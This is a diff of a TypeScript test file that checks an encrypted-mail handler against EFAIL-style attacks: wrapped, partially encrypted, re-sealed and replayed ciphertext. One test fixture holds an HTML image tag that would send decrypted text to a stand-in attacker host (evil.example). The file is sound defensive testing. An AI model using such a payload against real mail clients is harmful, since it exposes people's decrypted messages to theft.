@@ -1,7 +1,7 @@
 /**
  * EFAIL without a change to the ciphertext, and partial encryption: what was sealed to the desk stands in a message that an
- * attacker built around it. Each shape comes with a whole message of Alice, signed, and with bare words that name nobody, so
- * that no contradiction hides what the reader should never have opened.
+ * attacker built around it. Only the desk can open it, so it does, but apart from the rest, and to maintainers alone. Each shape
+ * comes with a whole message of Alice, signed, which contradicts the attacker, and with bare words that name nobody.
  */
 
 import { expect, it } from 'vitest'
@@ -13,6 +13,7 @@ import {
   mail,
   openScene,
   payload,
+  RULE,
   relayOf,
   SECRET,
   scene,
@@ -39,15 +40,19 @@ describeAttacks('attacks with ciphertext inside another message', () => {
     ['behind HTML', (stolen) => mixed([open, encryptedEntity(stolen)])],
     ['before HTML', (stolen) => mixed([encryptedEntity(stolen), close])],
     ['a file between HTML', (stolen) => mixed([open, file(stolen, 'a.asc'), close])],
-    ['text between HTML', (stolen) => mixed([open, textPart(stolen), close])],
+    ['text between HTML', (stolen) => mixed([open, textPart(stolen), close])]
+  ]
+  const INSIDE: readonly Shape[] = [
     ['inside of HTML', (stolen) => html(`<img src="http://evil.example/${stolen}">`)]
   ]
-  const CLOSED: readonly Shape[] = [
+  const AMONG: readonly Shape[] = [
     [
       'behind two texts',
       (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), encryptedEntity(stolen)])
     ],
-    ['behind words of one text', (stolen) => textPart(`${ATTACK}\r\n${stolen}`)],
+    ['behind words of one text', (stolen) => textPart(`${ATTACK}\r\n${stolen}`)]
+  ]
+  const FORWARDED: readonly Shape[] = [
     [
       'in a forwarded mail',
       (stolen) =>
@@ -94,35 +99,87 @@ describeAttacks('attacks with ciphertext inside another message', () => {
     expect(opened.map(([name]) => name)).toEqual([])
   }
 
+  /** What a maintainer reads of the stolen words, never in one block with those of the attacker. */
+  function isApart(relays: readonly string[]): void {
+    for (const words of relays) {
+      // HTML is forwarded only inside the original, as a file.
+      const [shown = ''] = words.split('Content-Type: message/rfc822')
+      expect(shown).toContain(SECRET)
+      expect(shown).not.toContain('text/html')
+      const blocks = shown.split(RULE).filter((block) => block.includes(SECRET))
+      expect(blocks.filter((block) => block.includes(ATTACK))).toEqual([])
+    }
+  }
+
+  it('1 EFAIL, direct exfiltration: a whole message of Alice beside HTML is withheld', async () => {
+    await openScene()
+    isUnopened(await relaysOf(DIRECT, 'a signed mail', 'contradicts-sender'), DIRECT)
+  })
+
+  it('1 EFAIL, direct exfiltration: bare words beside HTML are shown apart, to maintainers alone', async () => {
+    await openScene()
+    isApart(await relaysOf(DIRECT, 'bare words', 'case-opened'))
+  })
+
   it.each(KINDS)(
-    '1 EFAIL, direct exfiltration: ciphertext beside HTML is not opened (%s)',
+    '1 EFAIL, direct exfiltration: ciphertext inside of HTML is not opened (%s)',
     async (kind) => {
       await openScene()
-      const relays = await relaysOf(DIRECT, kind, 'case-opened')
-      isUnopened(relays, DIRECT)
+      isUnopened(await relaysOf(INSIDE, kind, 'case-opened'), INSIDE)
+    }
+  )
+
+  const again = (built: string): Promise<string> => sealedMail('mallory', built)
+
+  it('1 EFAIL, sealed again by the thief: a whole message of Alice inside is withheld', async () => {
+    await openScene()
+    isUnopened(await relaysOf(AGAIN, 'a signed mail', 'contradicts-sender', again), AGAIN)
+  })
+
+  it('1 EFAIL, sealed again by the thief: bare words inside are shown apart, never as the thief signed', async () => {
+    await openScene()
+    const relays = await relaysOf(AGAIN, 'bare words', 'case-opened', again)
+    isApart(relays)
+    for (const words of relays) {
+      expect(relayOf(words).text).not.toContain(SECRET)
+      expect(words.replaceAll(/\s+/g, ' ')).toContain('Nothing proves that its author wrote')
+    }
+  })
+
+  it('partial encryption: a whole message of Alice among words of the attacker is withheld', async () => {
+    await openScene()
+    isUnopened(await relaysOf(AMONG, 'a signed mail', 'contradicts-sender'), AMONG)
+  })
+
+  it('partial encryption: bare words among those of the attacker are shown apart', async () => {
+    await openScene()
+    isApart(await relaysOf(AMONG, 'bare words', 'case-opened'))
+  })
+
+  it.each(KINDS)(
+    'a sealed message that is sent on as a file is opened for maintainers, and nobody is taken for its author (%s)',
+    async (kind) => {
+      await openScene()
+      const relays = await relaysOf(FORWARDED, kind, 'case-opened')
+      isApart(relays)
       for (const words of relays) {
-        // HTML is forwarded only inside the original, as a file.
-        const [shown = ''] = words.split('Content-Type: message/rfc822')
-        expect(shown).not.toContain('text/html')
+        expect(words).toContain('Attached message 1')
+        expect(words.replaceAll(/\s+/g, ' ')).toContain('need not be its author')
       }
     }
   )
 
-  it.each(KINDS)(
-    '1 EFAIL, sealed again by the thief: the ciphertext inside is not opened (%s)',
-    async (kind) => {
+  it.each([...DIRECT, ...AMONG, ...FORWARDED])(
+    '4 replayed ciphertext: what Alice sent before is told as one of two claims %s',
+    async (_, build) => {
       await openScene()
-      const again = (built: string) => sealedMail('mallory', built)
-      const relays = await relaysOf(AGAIN, kind, 'case-opened', again)
-      isUnopened(relays, AGAIN)
-    }
-  )
-
-  it.each(KINDS)(
-    'partial encryption: ciphertext among words of the attacker is not opened (%s)',
-    async (kind) => {
-      await openScene()
-      isUnopened(await relaysOf(CLOSED, kind, 'case-opened'), CLOSED)
+      const stolen = await steal('bare words')
+      await scene.attack(mail('alice', encryptedEntity(stolen)))
+      expect(scene.disposition()).toBe('case-opened')
+      await scene.attack(mail('mallory', build(stolen)))
+      const told = (await scene.mailsTo('grace')).at(-1)?.replaceAll(/\s+/g, ' ')
+      expect(told).toContain('Another sender sent the same encrypted content before')
+      expect(await wordsTo('mallory')).not.toContain(SECRET)
     }
   )
 
